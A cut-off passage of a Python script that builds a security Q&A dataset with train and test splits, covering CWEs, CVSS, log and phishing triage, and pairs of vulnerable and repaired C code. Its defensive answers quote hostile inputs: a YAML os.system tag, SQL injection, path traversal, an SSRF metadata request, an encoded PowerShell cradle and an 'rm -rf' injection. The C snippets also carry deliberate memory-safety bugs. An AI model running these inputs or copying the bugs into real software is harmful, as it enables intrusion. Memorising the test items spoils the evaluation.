        Our config loader does yaml.load(open(path), Loader=yaml.Loader) on
        files users upload. Problem?
    """), p("""
        Yes. yaml.Loader (like UnsafeLoader) can construct arbitrary Python
        objects through tags such as !!python/object/apply:os.system, so an
        uploaded file can execute code when parsed (CWE-502). Use
        yaml.safe_load, which builds only plain dicts, lists, strings, numbers
        and similar, then validate the resulting structure against a schema
        before using it. Also open the file with a context manager so the handle
        is closed.
    """)),
    qa("code-fix", "How do I store passwords properly? We currently do hashlib.md5(pw).hexdigest().", p("""
        MD5 is fast and unsalted here, so leaked hashes crack quickly (CWE-916).
        Use a password hashing function with a random salt. With only the
        standard library, scrypt works:
    """) + "\n\n" + fence("python", """
        salt = os.urandom(16)
        digest = hashlib.scrypt(pw.encode(), salt=salt, n=2**14, r=8, p=1)
        store(salt, digest)
        # verify: hmac.compare_digest(hashlib.scrypt(...same params...), digest)
    """) + "\n\n" + p("""
        Argon2id through the argon2-cffi package is the preferred choice.
        Rehash old MD5 entries when users next log in.
    """)),
    qa("code-fix", p("""
        We call requests.get(url, verify=False) because the partner's
        certificate is issued by their internal CA. Is there a better way?
    """), p("""
        Yes. verify=False disables certificate validation, so anyone on the
        network path can intercept and modify the traffic (CWE-295). Obtain the
        partner's CA certificate through a trusted channel and point requests at
        it: requests.get(url, verify="/etc/pki/partner-ca.pem"). That keeps
        hostname and chain checks while trusting their internal CA only for this
        call. Also remove any global urllib3 warning suppression so such
        shortcuts stay visible.
    """)),
    qa("code-fix", "Is this redirect after login OK?\n\n" + fence("python", """
        next_url = request.args.get("next", "/")
        return redirect(next_url)
    """), p("""
        No, it is an open redirect (CWE-601): a link such as
        /login?next=https://evil.example sends users to an attacker's site right
        after they log in, which makes phishing convincing. Only accept local
        paths:
    """) + "\n\n" + fence("python", """
        next_url = request.args.get("next", "/")
        parts = urlsplit(next_url)
        if parts.scheme or parts.netloc or not next_url.startswith("/") or next_url.startswith("//"):
            next_url = "/"
        return redirect(next_url)
    """)),
    # -- CVSS -----------------------------------------------------------------
    qa("cvss", "What does the CVSS vector AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H mean?", p("""
        It describes a network-exploitable flaw (AV:N) with low attack
        complexity (AC:L) that needs no privileges (PR:N) and no user
        interaction (UI:N); scope is unchanged (S:U), and a successful attack
        fully compromises confidentiality, integrity and availability (C:H, I:H,
        A:H). In CVSS 3.1 this scores 9.8, Critical. Unauthenticated remote code
        execution in an internet-facing service typically looks like this.
    """)),
    qa("cvss", "Explain CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N.", p("""
        Network attack vector, low complexity, no privileges needed, but a user
        must interact (UI:R), for example by clicking a link. Scope is changed
        (S:C): the impact lands in a different security authority, such as the
        victim's browser session rather than the server. Confidentiality and
        integrity impact are low and availability is unaffected. The base score
        is 6.1, Medium, the typical vector for reflected cross-site scripting.
    """)),
    qa("cvss", "What does AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H usually indicate?", p("""
        A local attack (AV:L) by someone who already has a low-privileged
        account (PR:L), with low complexity and no user interaction, resulting
        in full loss of confidentiality, integrity and availability within the
        same scope. That is the classic profile of a local privilege escalation,
        for example a kernel or setuid bug that turns a normal user into root.
        The CVSS 3.1 base score is 7.8, High.
    """)),
    qa("cvss", "Score and explain AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H.", p("""
        Remote, easy, unauthenticated, no user interaction, scope unchanged, and
        the only impact is high availability loss: confidentiality and integrity
        are untouched. This is a remotely triggerable denial of service, such as
        a crash from a malformed packet. The CVSS 3.1 base score is 7.5, High.
        If the service restarts automatically, the real-world impact depends on
        whether an attacker can repeat the crash continuously.
    """)),
    qa("cvss", "In CVSS 3.1, what is the difference between S:U and S:C?", p("""
        Scope (S) asks whether exploiting the vulnerable component affects
        resources managed by a different security authority. S:U, unchanged,
        means the impact stays within the vulnerable component, such as a web
        application reading its own database. S:C, changed, means it crosses a
        boundary, for example a hypervisor escape from a guest to the host, or
        XSS in a server that executes in the user's browser. Changed scope raises
        the score for the same impacts.
    """)),
    qa("cvss", "Why does AV:P/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H only score 6.8?", p("""
        AV:P means physical access is required, for example plugging a device
        into a USB or debug port. The attack vector has the largest effect on
        exploitability, and physical access is the most restrictive value, so
        even with full confidentiality, integrity and availability impact the
        CVSS 3.1 base score is 6.8, Medium. For devices in public places, such as
        kiosks or payment terminals, the organization may still rate the risk
        higher than the base score.
    """)),
    qa("cvss", "What does PR:L versus PR:H change in a CVSS score?", p("""
        Privileges Required describes what access the attacker needs before
        exploiting the flaw. PR:L means a basic user account, PR:H means
        administrative or significant privileges. Higher requirements lower the
        score: AV:N/AC:L/UI:N/S:U/C:H/I:H/A:H is 8.8 with PR:L and 7.2 with
        PR:H. Remember that default admin passwords and exposed admin panels can
        make a PR:H flaw more dangerous in practice than its score suggests.
    """)),
    # -- is this log line suspicious? ------------------------------------------
    qa("log-triage", "Is this suspicious?\n\n" + c("""
        sshd[2211]: Failed password for root from 198.51.100.23 port 40122 ssh2
        sshd[2211]: Failed password for root from 198.51.100.23 port 40122 ssh2
        sshd[2219]: Accepted password for root from 198.51.100.23 port 40180 ssh2
    """), p("""
        Yes, highly. Failed root logins followed by an accepted password from the
        same external address means a guessed or stolen password worked, and
        direct root login over password is enabled. Treat the server as
        compromised: check what that session did (auth log, shell history,
        new users, cron, authorized_keys), isolate if needed, rotate the root
        password, and set PermitRootLogin no and PasswordAuthentication no.
    """), system=SOC_SYSTEM),
    qa("log-triage", "What does this web log entry show?\n\n" + (
        '203.0.113.77 - - [12/Mar/2024:10:14:03 +0000] "GET /item.php?id=4%27%20UNION%20SELECT'
        '%20username,password%20FROM%20users--%20- HTTP/1.1" 200 5120'
    ), p("""
        It is a SQL injection attempt: decoded, the id parameter is 4' UNION
        SELECT username,password FROM users-- -, trying to append the users
        table to the item query. The 200 status and a response size different
        from normal item pages suggest it may have worked. Compare with the
        usual response size, check the database logs, test the parameter, and
        fix the code with parameterized queries. Also look for other requests
        from 203.0.113.77.
    """)),
    qa("log-triage", "Triage this process creation event:\n\n" + c("""
        EventID 4688  ParentProcess: C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE
        NewProcess: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
        CommandLine: powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA...
    """), p("""
        Malicious until proven otherwise. Word spawning a hidden PowerShell with
        an encoded command is the typical chain of a macro document
        (T1566.001 leading to T1059.001). The Base64 prefix decodes to
        "IEX (New-Object", a download cradle. Isolate the host, decode the full
        command to find the download URL, block it, find the document and its
        sender, and search other hosts for the same parent-child pair.
    """), system=SOC_SYSTEM),
    qa("log-triage", "Anything wrong here?\n\n" + (
        '10.20.4.18 - - [03/Apr/2024:08:01:55 +0000] "GET /static/img/logo.png HTTP/1.1" 200 14382 '
        '"https://intranet.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"'
    ), p("""
        No. An internal client fetching a static logo with a 200 response, a
        referer from the intranet's own page and an ordinary browser user agent
        is normal page-load traffic. Nothing in the path, parameters or size is
        unusual. It would only matter in context, for example if this host were
        already under investigation.
    """)),
    qa("log-triage", "Why would a SOC alert on Security event 1102 on a domain controller?", p("""
        Event 1102 means the Security audit log was cleared, and it records the
        account that did it. Clearing logs on a domain controller is rarely
        legitimate outside documented maintenance and is a common
        anti-forensics step (T1070.001) after credential theft or lateral
        movement. Confirm with the account owner, then review forwarded logs in
        the SIEM for what happened before the clear, since local history is
        gone.
    """)),
    qa("log-triage", "Should I worry about this?\n\n" + c("""
        192.0.2.14 - - [22/May/2024:14:02:11 +0000] "GET /download?file=../../../../etc/passwd HTTP/1.1" 404 153
    """), p("""
        It is a path traversal probe (CWE-22) aimed at /etc/passwd. The 404
        suggests this attempt failed, so on its own it is low priority, but
        check for other requests from 192.0.2.14 with encoded variants
        (..%2f, %2e%2e, ..\\) or different parameters that returned 200, and
        confirm that the download handler resolves paths inside its base
        directory. Scanners send such probes constantly.
    """)),
    qa("log-triage", "What does this mean?\n\n" + c("""
        sudo: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=/bin/bash
    """), p("""
        The web server account www-data tried to run a root shell with sudo from
        the uploads directory. The web server never does this on its own, so it
        strongly suggests someone is running commands through a web shell or an
        injection flaw and is attempting privilege escalation. Look for recently
        added files in /var/www/html/uploads, review access logs for requests to
        them, and check for other escalation attempts.
    """), system=SOC_SYSTEM),
    qa("log-triage", p("""
        Over five minutes we see event 4625 (failed logon) for 340 different
        usernames, all from the VPN gateway's address, each failing once or
        twice. Suspicious?
    """), p("""
        Yes. Many distinct accounts failing once or twice each is the signature
        of password spraying (T1110.003); the gateway address appears because it
        proxies the VPN logins, so pull the real client IPs from the VPN logs.
        Check for any 4624 successes for the same accounts in that window, reset
        those passwords, and confirm MFA is enforced on the VPN.
    """)),
    qa("log-triage", "Is this request a concern?\n\n" + c("""
        "GET /preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1" 200 612
    """), p("""
        Yes. It targets the cloud instance metadata service through a URL
        preview feature, a server-side request forgery attack (CWE-918) aiming
        to steal the instance role's temporary credentials. A 200 response of
        612 bytes suggests a role name or credentials were returned. Rotate the
        role's credentials, review cloud audit logs for API calls using them,
        fix the preview to block internal addresses, and require IMDSv2 tokens.
    """)),
    qa("log-triage", "Is this cron log normal?\n\n" + c("""
        CRON[8812]: (root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))
    """), p("""
        Yes, this is the stock Debian and Ubuntu /etc/crontab entry that runs the
        daily cron jobs when anacron is not installed. Nothing here is unusual.
        Persistence through cron would instead show unfamiliar commands, for
        example curl or wget piped to sh, scripts in /tmp or /dev/shm, or jobs
        for service accounts that normally have none.
    """)),
    # -- phishing triage -------------------------------------------------------
    qa("phishing", "Triage this e-mail:\n\n" + c("""
        From: Microsoft 365 <no-reply@micros0ft-support.com>
        Subject: Your password expires today
        Body: Your mailbox password expires in 2 hours. Keep your current password here:
        https://micros0ft-support.com/owa/keep-password
    """), p("""
        Phishing. The sender domain uses a zero in place of the letter o and is
        not a Microsoft domain, the message creates urgency, and the link leads
        to the same lookalike domain to harvest credentials. "Keep your current
        password" is a typical lure. Block the domain, purge the message from
        all mailboxes, and check proxy logs for users who visited the link; reset
        credentials and revoke sessions for anyone who submitted them.
    """), system=SOC_SYSTEM),
    qa("phishing", p("""
        A user got "Invoice_0419.zip" from an unknown supplier; inside is
        Invoice_0419.pdf.js. Verdict?
    """), p("""
        Malicious. A .js file inside a ZIP, disguised with a double extension, is
        a classic loader: Windows Script Host runs JavaScript on double-click,
        typically to download malware. Real invoices are not scripts. Quarantine
        the message across the organization, block the sender, detonate the file
        in a sandbox to extract download URLs, and check whether anyone ran it
        (wscript.exe process creation).
    """)),
    qa("phishing", p("""
        The CFO got an e-mail from the CEO's name on a Gmail address: "I'm in a
        meeting, can you buy 10 gift cards for a client and send me the codes?"
        How do we handle it?
    """), p("""
        This is business email compromise using executive impersonation, in the
        gift card variant. Signs: an external free-mail address with the CEO's
        display name, secrecy, urgency and an untraceable payment method. Do not
        reply; confirm with the CEO through a known channel. Report and block the
        address, search for similar messages to other staff, and add an external
        sender banner and display-name impersonation protection.
    """)),
    qa("phishing", "Is this one real?\n\n" + c("""
        From: HR Benefits <benefits@example-corp.com>   (our own domain)
        SPF: pass  DKIM: pass (example-corp.com)  DMARC: pass
        Subject: Open enrollment closes Friday
        Link: https://benefits.example-corp.com/enroll  (our known portal)
    """), p("""
        Probably legitimate: it comes from your own domain with SPF, DKIM and
        DMARC passing, and the link points to the known benefits portal rather
        than a lookalike. Annual enrollment reminders are expected. Still check
        that the displayed link matches the real href, and if a compromised
        internal mailbox is a concern, confirm with HR that they sent it.
    """)),
    qa("phishing", p("""
        A supplier's usual contact e-mailed accounts payable: "We changed banks,
        please send this month's payment to the new IBAN attached." The headers
        show it came from the supplier's real domain. What do we do?
    """), p("""
        Treat it as likely business email compromise even though the domain is
        genuine: attackers often take over a supplier's mailbox. Do not change
        payment details based on e-mail. Call the supplier on a phone number
        from your records, not from the message, to verify. Alert the supplier
        that their account may be compromised, and check whether earlier
        payments were redirected.
    """)),
    qa("phishing", p("""
        A user says their phone showed about 30 MFA push requests at night and
        they finally approved one to make it stop. What now?
    """), p("""
        This is MFA fatigue (push bombing): the attacker already has the
        password and spammed prompts until one was approved, so assume the
        account is compromised. Revoke all sessions and refresh tokens, reset
        the password, review sign-ins and mailbox or file activity since the
        approval, and remove any MFA methods or app consents the attacker added.
        Enable number matching and prefer phishing-resistant methods.
    """), system=SOC_SYSTEM),
    qa("phishing", p("""
        Triage: an e-mail says a document was shared via DocuSign, and its
        button links to https://docs-sign.review-portal.top/d/8812.
    """), p("""
        Likely phishing. DocuSign links go to docusign.net or docusign.com
        domains, while this one uses an unrelated .top domain with brand words in
        the subdomain. Document-sharing lures usually lead to a credential
        harvesting page. Check the sender's authentication results, block the
        domain, purge similar messages, and check proxy logs for visits.
    """)),
    # -- general knowledge ----------------------------------------------------
    qa("concepts", "What's the difference between authentication and authorization?", p("""
        Authentication verifies who someone is, for example with a password,
        passkey or certificate. Authorization decides what that identity may do:
        which records it can read, which actions it can perform. A system can
        authenticate perfectly and still fail authorization, for instance by
        letting any logged-in user open any invoice by ID (CWE-862 or CWE-639).
        Both must be enforced on the server for every request.
    """)),
    qa("concepts", "What is defense in depth?", p("""
        Defense in depth means layering independent controls so that one failure
        does not lead to compromise. For a web application, that might be input
        validation, parameterized queries, a least-privilege database account, a
        web application firewall, network segmentation, monitoring and backups.
        If an injection slips past validation, the database account limits what
        it can reach and monitoring can catch the abuse. The layers should fail
        independently, not share one assumption.
    """)),
    qa("concepts", "What is an SBOM and why should we produce one?", p("""
        A software bill of materials is a machine-readable inventory of the
        components in a piece of software: libraries, versions, suppliers and
        often hashes, usually in SPDX or CycloneDX format. When a new
        vulnerability is disclosed in a library, an SBOM lets you find within
        minutes which products and releases include it. It also supports licence
        compliance and is increasingly requested by customers and regulators.
    """)),
    qa("concepts", "Explain vulnerability, exploit, threat and risk in one answer.", p("""
        A vulnerability is a weakness, such as an unpatched SQL injection. An
        exploit is code or a technique that takes advantage of it. A threat is
        an actor or event that could exploit it, like a criminal group scanning
        for the flaw. Risk combines the likelihood that the threat exploits the
        vulnerability with the impact if it does. Patching removes the
        vulnerability; monitoring and segmentation reduce likelihood and impact.
    """)),
    qa("concepts", "How does least privilege apply to cloud IAM roles?", p("""
        Grant each identity only the actions and resources it needs: a function
        that reads one bucket gets s3:GetObject on that bucket, not s3:* on all
        buckets. Avoid wildcards, prefer roles with short-lived credentials over
        long-lived access keys, separate administration from everyday accounts,
        and review unused permissions with access analysers. When credentials
        leak, narrow permissions limit what the attacker can do.
    """)),
    qa("concepts", "Explain SSRF to a backend developer in a few sentences.", p("""
        Server-side request forgery happens when your server fetches a URL that
        a user controls. Because the request comes from inside your network, the
        user can make it reach things they cannot reach directly: admin
        endpoints, internal APIs, databases with HTTP interfaces, or the cloud
        metadata service with its credentials. Only fetch allowlisted hosts, or
        resolve the name once, refuse private and link-local addresses, connect
        to the checked address and do not follow redirects.
    """)),
    qa("concepts", "What is the difference between symmetric and asymmetric encryption?", p("""
        Symmetric encryption, such as AES, uses the same secret key to encrypt
        and decrypt; it is fast, but both sides must already share the key.
        Asymmetric encryption, such as RSA or elliptic-curve schemes, uses a
        public key that anyone can use and a private key only the owner holds.
        Protocols like TLS combine them: asymmetric cryptography authenticates
        the server and agrees on a session key, and symmetric encryption
        protects the data.
    """)),
    qa("concepts", "Why is a WAF not a substitute for fixing the code?", p("""
        A web application firewall matches request patterns, so it blocks known
        payload shapes but can be bypassed with encodings, alternative syntax or
        logic the rules do not cover, and it cannot see flaws such as missing
        authorization where the request looks perfectly normal. It is useful as
        a temporary shield while a fix is developed, and for visibility. The
        vulnerability remains until the code is fixed.
    """)),
    # -- multi-turn -----------------------------------------------------------
    chat("multi-turn", [
        ("user", "What is CWE-352?"),
        ("assistant", p("""
            CWE-352 is Cross-Site Request Forgery: a site performs a
            state-changing action based only on the browser's cookies, so a page
            on another site can make the victim's browser submit the request.
            Protect state-changing requests with an anti-CSRF token tied to the
            session, or verify the Origin header.
        """)),
        ("user", "Doesn't SameSite=Lax on the session cookie solve it completely?"),
        ("assistant", p("""
            It blocks most cases but not all. Lax still sends the cookie on
            top-level GET navigations, so any state change reachable by GET stays
            exposed; requests from sibling subdomains count as same-site; and old
            browsers ignore the attribute. Keep SameSite as a second layer, keep
            state changes on POST, and still use tokens or Origin checks.
        """)),
    ]),
    chat("multi-turn", [
        ("user", "A workstation resolves random-looking subdomains like "
                 "a9f3k2j1x0q8.cdn-telemetry-sync.net every few seconds. Is that bad?"),
        ("assistant", p("""
            It could be DNS tunnelling or command and control over DNS
            (T1071.004): long random labels under one domain at a steady rate are
            typical of data encoded into queries. Check the domain's age and
            reputation, the query volume and record types, and which process on
            the host generates the queries.
        """)),
        ("user", "The domain was registered last week and the process is an unsigned exe in AppData. Next steps?"),
        ("assistant", p("""
            Treat it as a confirmed infection. Isolate the workstation through
            EDR, capture memory and the executable, and block the domain at the
            resolver. Search DNS logs for other hosts querying it, find how the
            file arrived (mail, browser download, USB), reset the user's
            credentials, and reimage the host after collecting evidence.
        """)),
    ], system=SOC_SYSTEM),
    chat("multi-turn", [
        ("user", "In React, am I protected from XSS by default?"),
        ("assistant", p("""
            Mostly. JSX escapes values you render as text, so {comment.body}
            cannot inject markup. The escape hatches are
            dangerouslySetInnerHTML, URLs in href or src (a javascript: URL still
            runs), and direct DOM access through refs. Review those carefully.
        """)),
        ("user", "We render Markdown that users write, so we need HTML. What should we do?"),
        ("assistant", p("""
            Convert the Markdown to HTML, then sanitize the HTML with a
            maintained allowlist sanitizer such as DOMPurify before passing it to
            dangerouslySetInnerHTML. Disable raw HTML in the Markdown renderer if
            possible, allow only http, https and mailto links, and add a Content
            Security Policy without unsafe-inline as a backstop.
        """)),
    ]),
    chat("multi-turn", [
        ("user", "How do I check whether a dependency vulnerability actually affects us?"),
        ("assistant", p("""
            Confirm the vulnerable version is really in the deployed build (lock
            file or SBOM, not only the manifest), read the advisory for the
            affected function and preconditions, and check whether your code
            reaches that function with attacker-influenced input. Reachability
            and exposure decide priority.
        """)),
        ("user", "And if it is reachable but no fixed version exists yet?"),
        ("assistant", p("""
            Mitigate around it: disable or wrap the affected feature, validate
            or restrict the input before it reaches the library, add a WAF rule
            for known exploit patterns, and monitor for exploitation. Track the
            upstream fix, consider a patched fork or an alternative library, and
            record the accepted risk with an owner and a review date.
        """)),
    ]),
]

INSTRUCTIONS_TEST: list[dict[str, Any]] = [
    qa("cwe-id", p("""
        Which CWE is it when a search page copies the q parameter into the
        results heading without encoding, so a crafted link runs script for
        whoever opens it?
    """), p("""
        CWE-79, Cross-site Scripting, in its reflected form: the payload travels
        in the link and is echoed in the immediate response, so an attacker must
        get the victim to open the crafted URL. HTML-encode q when writing it
        into the page, use a template engine that escapes by default, and add a
        Content Security Policy to limit what injected markup can do.
    """)),
    qa("cwe-id", p("""
        A backup script runs os.system("tar czf /backups/" + name + ".tgz
        /data") where name comes from a web form. What CWE?
    """), p("""
        CWE-78, OS Command Injection. os.system passes the string to /bin/sh, so
        a name such as x; rm -rf /data # runs extra commands with the script's
        privileges. Call subprocess.run(["tar", "czf", path, "/data"]) with an
        argument list and no shell, and validate name against a strict pattern
        such as ^[A-Za-z0-9_-]{1,64}$ so it cannot also traverse directories.
    """)),
    qa("cwe-id", p("""
        An admin-only endpoint /admin/export-users is hidden from the menu for
        normal users, but the server never checks the role. Which CWE?
    """), p("""
        CWE-862, Missing Authorization. Hiding a link in the interface is not
        access control; any authenticated user who learns or guesses the URL can
        call the endpoint and export every user. Enforce the admin role on the
        server for this route, preferably with deny-by-default middleware, and
        log and alert on denied attempts.
    """)),
    qa("attack", "What is ATT&CK T1550.002 and how do we reduce its impact?", p("""
        T1550.002, Pass the Hash, uses a stolen NTLM hash to authenticate to
        other Windows systems without knowing the password, because NTLM
        authentication only needs the hash. It turns one compromised machine into
        many when local admin passwords are shared. Reduce it with LAPS for
        unique local admin passwords, Credential Guard, denying network logon to
        local accounts, restricting NTLM, and tiered admin accounts that never
        log on to workstations.
    """), system=SOC_SYSTEM),
    qa("attack", p("""
        A server shows a new service "WinSysHelper" with image path
        C:\\ProgramData\\svc\\helper.exe, set to auto start. Which technique?
    """), p("""
        T1543.003, Create or Modify System Process: Windows Service, used for
        persistence with SYSTEM privileges. Check System event 7045 for when and
        by whom it was installed, inspect helper.exe (signature, hash, network
        activity), and look for the same service on other hosts, since services
        are often pushed remotely during lateral movement. Remove it only after
        collecting evidence.
    """)),
    qa("code-fix", "Fix this Express handler:\n\n" + fence("javascript", """
        app.get('/user', async (req, res) => {
          const rows = await db.query("SELECT * FROM users WHERE id = " + req.query.id);
          res.json(rows);
        });
    """), p("""
        The id is concatenated into SQL, so id=1 OR 1=1 dumps every user (CWE-89).
        Use a placeholder and let the driver bind the value, and return only the
        fields the client needs:
    """) + "\n\n" + fence("javascript", """
        app.get('/user', async (req, res) => {
          const rows = await db.query('SELECT id, name FROM users WHERE id = ?', [req.query.id]);
          res.json(rows);
        });
    """), system=APPSEC_SYSTEM),
    qa("code-fix", "Is this PHP output safe?\n\n" + fence("php", """
        <p>Results for <?php echo $_GET['q']; ?></p>
    """), p("""
        No, it is reflected XSS (CWE-79): the q parameter is printed as raw HTML.
        Encode it for the HTML context:
    """) + "\n\n" + fence("php", """
        <p>Results for <?php echo htmlspecialchars($_GET['q'] ?? '', ENT_QUOTES, 'UTF-8'); ?></p>
    """) + "\n\n" + p("""
        ENT_QUOTES also encodes quotes, which matters if the value ever ends up
        inside an attribute.
    """)),
    qa("cvss", "Explain AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H.", p("""
        A network attack that needs no privileges or user interaction and gives
        full confidentiality, integrity and availability impact, but with high
        attack complexity (AC:H): success depends on conditions the attacker
        does not control, such as winning a race or a specific configuration.
        The CVSS 3.1 base score is 8.1, High, lower than the 9.8 the same vector
        would get with AC:L.
    """)),
    qa("cvss", "What does UI:R mean in a CVSS vector?", p("""
        User Interaction: Required. The attack only succeeds if a user other
        than the attacker does something, such as opening a file, clicking a
        link or visiting a page. UI:N means the attacker can exploit the flaw
        alone. Requiring interaction lowers the score; for example
        AV:N/AC:L/PR:N/S:U/C:H/I:H/A:H is 9.8 with UI:N and 8.8 with UI:R, the
        usual vector for a malicious document exploit.
    """)),
    qa("log-triage", "Is this suspicious?\n\n" + c("""
        EventID 4688  ParentProcess: C:\\Windows\\System32\\inetsrv\\w3wp.exe
        NewProcess: C:\\Windows\\System32\\cmd.exe  CommandLine: cmd.exe /c whoami
    """), p("""
        Yes, very. The IIS worker process spawning cmd.exe to run whoami is the
        classic sign of a web shell or a command injection in the web
        application: the attacker is checking which account they run as.
        Isolate or pull the server from the load balancer, look for recently
        modified .aspx files and the requests that preceded this event in the
        IIS logs, and check what else w3wp.exe spawned.
    """), system=SOC_SYSTEM),
    qa("log-triage", "What about this one?\n\n" + c("""
        Accepted publickey for deploy from 10.0.8.15 port 50412 ssh2: ED25519 SHA256:Jq1v...
    """), p("""
        Probably normal: a key-based login for the deploy account from an
        internal address, which is how automated deployments usually connect.
        Verify that 10.0.8.15 is the CI or deployment host and that the key
        fingerprint is the expected one. It would become suspicious if the
        source were new, the time unusual, or the session ran interactive
        commands the pipeline never uses.
    """)),
    qa("log-triage", p("""
        Our DNS logs show one laptop making 4,000 TXT queries an hour to
        unique subdomains of a single domain. Concern?
    """), p("""
        Yes. Thousands of TXT queries to unique subdomains of one domain is a
        strong indicator of DNS tunnelling or DNS-based command and control
        (T1071.004, T1572): data leaves encoded in the names and instructions
        return in TXT records. Identify the process making the queries, check
        the domain's registration age, block it at the resolver, and isolate
        the laptop for investigation.
    """)),
    qa("phishing", "Triage this message:\n\n" + c("""
        From: IT Service Desk <helpdesk@it-support-desk.co>
        Subject: Action required: mailbox storage full
        Body: Your mailbox is at 99%. Validate your account within 24h to avoid losing mail:
        https://it-support-desk.co/validate?u=jane.doe
    """), p("""
        Phishing. The sender is an external lookalike domain, not your IT
        department's, the message pushes a 24-hour deadline, and "validate your
        account" links lead to a credential harvesting page; the u parameter
        personalizes it. Block the domain, purge the campaign, check proxy logs
        for clicks, and reset credentials and sessions for users who entered
        them.
    """)),
    qa("phishing", p("""
        A colleague received a Teams chat from an external account named "IT
        Support" asking them to install a remote support tool. Is that
        phishing?
    """), p("""
        Very likely: this is spearphishing via service (T1566.003), where
        attackers use chat instead of e-mail to avoid mail filtering, and the
        remote tool gives them hands-on access. Internal IT would not contact
        users from an external tenant. Tell the user not to install anything,
        block the external tenant, check whether others were contacted, and
        consider restricting external chat to approved domains.
    """)),
    chat("multi-turn", [
        ("user", "What is a deserialization vulnerability?"),
        ("assistant", p("""
            CWE-502: the application rebuilds objects from bytes an attacker
            controls, using a format that can name arbitrary classes, such as
            Java serialization, pickle or PHP unserialize. Methods that run during
            loading let a crafted payload execute code.
        """)),
        ("user", "We use Java serialization between two internal services. How do we make it safer?"),
        ("assistant", p("""
            Best is to replace it with a data format such as JSON or Protocol
            Buffers and explicit schemas. If that is not possible soon, install an
            ObjectInputFilter that allowlists the few classes you expect and
            rejects everything else, limit stream depth and size, authenticate
            the peer with mutual TLS, and remove unused gadget-rich libraries
            from the classpath.
        """)),
    ]),
]


# ---------------------------------------------------------------------------
# vuln-code: (language, cwe, vulnerable snippet, its repaired counterpart, split)
# ---------------------------------------------------------------------------

PAIRS: list[tuple[str, str, str, str, str]] = []


def pair(language: str, cwe: str, vulnerable: str, safe: str, split: str = "train") -> None:
    """Register one vulnerable snippet and its repaired counterpart."""
    PAIRS.append((language, cwe, c(vulnerable), c(safe), split))


# -- C ----------------------------------------------------------------------

pair("c", "CWE-120", r"""
    #include <string.h>

    struct profile {
        char nickname[32];
        int level;
    };

    int profile_set_nickname(struct profile *p, const char *nick)
    {
        if (nick[0] == '\0')
            return -1;
        if (strcmp(nick, "admin") == 0 || strcmp(nick, "root") == 0)
            return -1;
        strcpy(p->nickname, nick);
        return 0;
    }
""", r"""
    #include <string.h>

    struct profile {
        char nickname[32];
        int level;
    };

    int profile_set_nickname(struct profile *p, const char *nick)
    {
        size_t n = strlen(nick);
        if (n >= sizeof(p->nickname))
            return -1;
        memcpy(p->nickname, nick, n + 1);
        return 0;
    }
""")

pair("c", "CWE-190", r"""
    #include <stdlib.h>
    #include <string.h>

    unsigned char *alloc_canvas(unsigned int width, unsigned int height)
    {
        if (width == 0 || height == 0)
            return NULL;
        unsigned int bytes = width * height * 4;
        unsigned char *px = malloc(bytes);
        if (px == NULL)
            return NULL;
        for (unsigned int row = 0; row < height; row++)
            memset(px + (size_t)row * width * 4, 0xff, (size_t)width * 4);
        return px;
    }
""", r"""
    #include <stdlib.h>
    #include <string.h>

    #define MAX_DIM 16384u

    unsigned char *alloc_canvas(unsigned int width, unsigned int height)
    {
        if (width == 0 || height == 0 || width > MAX_DIM || height > MAX_DIM)
            return NULL;
        size_t bytes = (size_t)width * height * 4;
        unsigned char *px = malloc(bytes);
        if (px == NULL)
            return NULL;
        memset(px, 0xff, bytes);
        return px;
    }
""")

pair("c", "CWE-416", r"""
    #include <stdlib.h>

    struct session {
        int id;
        long bytes_sent;
        char *buffer;
    };

    void session_close(struct session *s)
    {
        free(s->buffer);
        free(s);
        log_event("session %d closed after %ld bytes", s->id, s->bytes_sent);
    }
""", r"""
    #include <stdlib.h>

    struct session {
        int id;
        long bytes_sent;
        char *buffer;
    };

    void session_close(struct session *s)
    {
        log_event("session %d closed after %ld bytes", s->id, s->bytes_sent);
        free(s->buffer);
        s->buffer = NULL;
        free(s);
    }
""")

pair("c", "CWE-476", r"""
    #include <limits.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>

    char *tally_config_path(void)
    {
        const char *home = getenv("HOME");
        size_t len = strlen(home) + sizeof("/.config/tally/tally.conf");
        if (len > PATH_MAX)
            return NULL;
        char *path = malloc(len);
        snprintf(path, len, "%s/.config/tally/tally.conf", home);
        return path;
    }
""", r"""
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>

    char *tally_config_path(void)
    {
        const char *home = getenv("HOME");
        if (home == NULL || *home == '\0')
            return NULL;
        size_t len = strlen(home) + sizeof("/.config/tally/tally.conf");
        char *path = malloc(len);
        if (path == NULL)
            return NULL;
        snprintf(path, len, "%s/.config/tally/tally.conf", home);
        return path;
    }
""")

pair("c", "CWE-125", r"""
    #include <stdint.h>
    #include <string.h>

    int read_option(const uint8_t *pkt, size_t pkt_len, uint8_t *out, size_t out_len)
    {
        if (pkt_len < 2)
            return -1;
        uint8_t type = pkt[0];
        uint8_t len = pkt[1];
        if (len > out_len)
            return -1;
        memcpy(out, pkt + 2, len);
        return type;
    }
""", r"""
    #include <stdint.h>
    #include <string.h>

    int read_option(const uint8_t *pkt, size_t pkt_len, uint8_t *out, size_t out_len)
    {
        if (pkt_len < 2)
            return -1;
        uint8_t type = pkt[0];
        uint8_t len = pkt[1];
        if (len > out_len || (size_t)len > pkt_len - 2)
            return -1;
        memcpy(out, pkt + 2, len);
        return type;
    }
""")

pair("c", "CWE-134", r"""
    #include <stdio.h>
    #include <syslog.h>

    void audit(const char *user, const char *action)
    {
        char line[256];
        snprintf(line, sizeof(line), "user=%s action=%s", user, action);
        syslog(LOG_INFO, line);
    }
""", r"""
    #include <stdio.h>
    #include <syslog.h>

